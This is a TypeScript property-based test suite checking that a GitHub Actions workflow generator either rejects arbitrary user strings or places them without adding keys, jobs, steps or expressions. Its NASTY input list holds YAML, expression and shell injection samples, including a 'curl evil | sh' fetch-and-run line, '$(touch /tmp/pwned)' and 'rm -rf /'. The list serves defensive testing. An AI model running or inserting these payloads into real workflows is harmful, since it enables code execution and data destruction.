/**
 * Property tests: an arbitrary user string (branch, environment, image, workflow name,
 * paths, job ids, runner labels, versions, commands) is either rejected with a problem,
 * or it lands exactly where it belongs and the workflow keeps the structure of a
 * workflow built from a harmless value: same keys, same jobs and steps, same scripts,
 * no extra expression. Parsed back with `yaml`; expressions evaluated with GitHub's
 * own engine.
 */
import * as fc from 'fast-check';
import { parseDocument } from 'yaml';
import { evaluate, githubContext, Obj } from './support';
import { ContainerPublishPipeline, ContainerPublishPipelineOptions } from '../../src';

const RUNS = 1000;
const DOCKERFILE = { path: 'Dockerfile', context: '.', target: 'runtime' };

/** The structure of a parsed document: keys in order (job ids by position), leaves by type. */
function shape(v: unknown, jobs = false): unknown {
  if (Array.isArray(v)) return v.map(x => shape(x));
  if (v !== null && typeof v === 'object') {
    return Object.entries(v).map(([k, x], i) => [jobs ? `job${i}` : k, shape(x, k === 'jobs' && !jobs)]);
  }
  return typeof v;
}

function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) v.forEach(x => strings(x, out));
  else if (v !== null && typeof v === 'object') Object.values(v).forEach(x => strings(x, out));
  return out;
}

const expressions = (wf: Obj) => strings(wf).reduce((n, s) => n + s.split('${{').length - 1, 0);
const scripts = (wf: Obj) => Object.values<Obj>(wf.jobs).flatMap(j => j.steps).map((s: Obj) => s.run).filter(r => r !== undefined);

function render(options: ContainerPublishPipelineOptions): Obj | undefined {
  const p = new ContainerPublishPipeline({ provenanceAttestation: false, ...options });
  if (p.problems().length > 0) {
    expect(() => p.renderWorkflow()).toThrow(/problem/);
    return undefined;
  }
  const doc = parseDocument(p.renderWorkflow());
  expect(doc.errors).toEqual([]);
  return doc.toJS() as Obj;
}

/** Strings near the accepted forms, with every character that could break YAML, an expression, a CSV input or a script. */
const TRICKY = [
  'a', 'z', 'A', '0', '9', '/', '.', '-', '_', ' ', '\n', '\r', '\t', ':', '#', '\'', '"', '$', '{', '}', '[', ']', '*',
  '?', '@', '!', '&', '|', ';', '`', '\\', ',', '=', '>', '<', '%', '~', '^', '\u2028', '\u0000', '\u00e9', '\u{1F600}',
];
const NASTY = [
  'main\n  evil: true', 'main"\nevil: x', '${{ github.event.issue.title }}', '\' || true || \'', 'x\') || (\'', 'a,type=local,dest=/tmp',
  'a\nrun: curl evil | sh', '$(touch /tmp/pwned)', '`id`', 'x; rm -rf /', '- run: evil', '*', '&anchor', '!!binary', '? key', '|', '>-',
  'production\n', ' production', 'on', 'true', 'null', '~', '0x10', '1e3',
];
function tricky(near: string[]): fc.Arbitrary<string> {
  const tail = fc.string({ unit: fc.constantFrom('a', 'b', '1', '-', '_', '.', '/'), maxLength: 8 });
  return fc.oneof(
    { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...near), tail).map(([a, b]) => a + b) },
    { weight: 4, arbitrary: fc.string({ unit: fc.constantFrom(...TRICKY), minLength: 1, maxLength: 24 }) },
    { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom('a', 'b', '1', '-', '_', '.', '/'), minLength: 1, maxLength: 24 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 24 }) },
    { weight: 1, arbitrary: fc.constantFrom(...NASTY) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom('main', 'acme/app', 'src/**', 'prod'), fc.constantFrom(...NASTY)).map(([a, b]) => a + b) },
  );
}

interface Field {
  readonly name: string;
  readonly harmless: string;
  readonly options: (s: string) => Partial<ContainerPublishPipelineOptions>;
  /** Where the accepted value must appear, exactly. */
  readonly placed: (wf: Obj, s: string) => void;
  /** Accepted-looking prefixes, so that the generator reaches accepted values. */
  readonly near?: string[];
  /** Whether the value may change the scripts (the install command is the author's own shell code). */
  readonly inScript?: boolean;
}

const publish = (wf: Obj) => Object.values<Obj>(wf.jobs).find(j => j.environment !== undefined)!;
const buildPush = (job: Obj) => job.steps.find((s: Obj) => String(s.uses).startsWith('docker/build-push-action@'));
const driftJob = (wf: Obj) => Object.values<Obj>(wf.jobs).find(j => j.steps.some((s: Obj) => s.run === 'npx projen --no-post\n'))!;

const FIELDS: Field[] = [
  {
    name: 'branch',
    harmless: 'main',
    options: s => ({ deployments: [{ branch: s, environment: 'production' }] }),
    placed: (wf, s) => {
      expect(wf.on.push.branches).toEqual([s]);
      const github = githubContext('push', `refs/heads/${s}`);
      expect(evaluate(publish(wf).if, { github }).text).toBe('true');
      expect(evaluate(publish(wf).environment.slice(3, -2), { github }).text).toBe('production');
      expect(evaluate(publish(wf).if, { github: githubContext('push', `refs/heads/${s}x`) }).text).toBe('false');
    },
  },
  {
    name: 'environment',
    harmless: 'production',
    options: s => ({ deployments: [{ branch: 'main', environment: s }] }),
    placed: (wf, s) => {
      expect(evaluate(publish(wf).environment.slice(3, -2), { github: githubContext('push', 'refs/heads/main') }).text).toBe(s);
      const tags = publish(wf).steps.find((x: Obj) => x.id === 'meta').with.tags.split('\n');
      expect(tags).toContain(`type=raw,value=${s},enable=\${{ github.ref == 'refs/heads/main' }}`);
    },
  },
  {
    name: 'tagEnvironment',
    harmless: 'release',
    options: s => ({ publishSemverTags: true, tagEnvironment: s }),
    placed: (wf, s) => expect(evaluate(publish(wf).environment.slice(3, -2), { github: githubContext('push', 'refs/tags/v1.2.3') }).text).toBe(s),
  },
  {
    name: 'imageName',
    harmless: 'acme/app',
    options: s => ({ imageName: s }),
    near: ['acme/app', 'a/b', 'acme/'],
    placed: (wf, s) => expect(publish(wf).steps.find((x: Obj) => x.id === 'image').env.IMAGE).toBe(`ghcr.io/${s}`),
  },
  {
    name: 'workflowName',
    harmless: 'container-publish',
    options: s => ({ workflowName: s }),
    placed: (wf, s) => expect(wf.name).toBe(s),
  },
  {
    name: 'Dockerfile path',
    harmless: 'Dockerfile',
    options: s => ({ dockerfile: { ...DOCKERFILE, path: s } }),
    placed: (wf, s) => expect(buildPush(publish(wf)).with.file).toBe(s),
  },
  {
    name: 'Dockerfile context',
    harmless: '.',
    options: s => ({ dockerfile: { ...DOCKERFILE, context: s } }),
    placed: (wf, s) => expect(buildPush(publish(wf)).with.context).toBe(s),
  },
  {
    name: 'Dockerfile target',
    harmless: 'runtime',
    options: s => ({ dockerfile: { ...DOCKERFILE, target: s } }),
    placed: (wf, s) => expect(buildPush(publish(wf)).with.target).toBe(s),
  },
  {
    name: 'publishPaths entry',
    harmless: 'src/**',
    options: s => ({ publishPaths: [s] }),
    placed: (wf, s) => expect(wf.on.push.paths).toEqual([s]),
  },
  {
    name: 'build job id',
    harmless: 'container-build',
    options: s => ({ jobIds: { buildJob: s } }),
    placed: (wf, s) => {
      expect(Object.keys(wf.jobs)[0]).toBe(s);
      expect(wf.jobs[s].name).toBe(s);
      expect(publish(wf).needs).toEqual([s]);
    },
  },
  {
    name: 'runner label',
    harmless: 'ubuntu-latest',
    options: s => ({ runsOn: [s] }),
    placed: (wf, s) => expect(publish(wf)['runs-on']).toBe(s),
  },
  {
    name: 'platform',
    harmless: 'linux/arm64',
    options: s => ({ platforms: [s] }),
    near: ['linux/', 'linux/arm', 'linux/arm/v'],
    placed: (wf, s) => expect(buildPush(publish(wf)).with.platforms).toBe(s),
  },
  {
    name: 'cdktf app directory',
    harmless: 'infra',
    options: s => ({ synthDrift: { cdktfApp: s } }),
    placed: (wf, s) => expect(driftJob(wf).steps.find((x: Obj) => x.run === 'npx cdktf synth\n')['working-directory']).toBe(s),
  },
  {
    name: 'node version',
    harmless: '22',
    options: s => ({ synthDrift: { nodeVersion: s } }),
    placed: (wf, s) => expect(driftJob(wf).steps[1].with['node-version']).toBe(s),
  },
  {
    name: 'install command',
    harmless: 'npm ci',
    options: s => ({ synthDrift: { installCommand: s } }),
    inScript: true,
    placed: (wf, s) => expect(driftJob(wf).steps[2].run).toBe(`${s}\n`),
  },
];

describe.each(FIELDS)('an arbitrary $name', (field) => {
  const baseline = render({ dockerfile: DOCKERFILE, ...field.options(field.harmless) })!;

  test('the harmless value is accepted and placed', () => {
    expect(baseline).toBeDefined();
    field.placed(baseline, field.harmless);
  });

  test('is rejected, or cannot add a key, a job, a step, an expression or a command', () => {
    let accepted = 0;
    fc.assert(fc.property(tricky(field.near ?? [field.harmless]), (s) => {
      const wf = render({ dockerfile: DOCKERFILE, ...field.options(s) });
      if (wf === undefined) return;
      accepted++;
      expect(shape(wf)).toEqual(shape(baseline));
      expect(expressions(wf)).toBe(expressions(baseline));
      if (!field.inScript) expect(scripts(wf)).toEqual(scripts(baseline));
      field.placed(wf, s);
    }), {
      numRuns: RUNS,
      // names that are special as JavaScript object keys (found by this property: a job id "__proto__"
      // once set the jobs object's prototype instead of adding a job), always tried
      examples: [['__proto__'], ['constructor'], ['toString'], ['hasOwnProperty']],
    });
    // the generator reaches accepted values too, so the structural checks are exercised
    expect(accepted).toBeGreaterThan(RUNS / 20);
  });
});
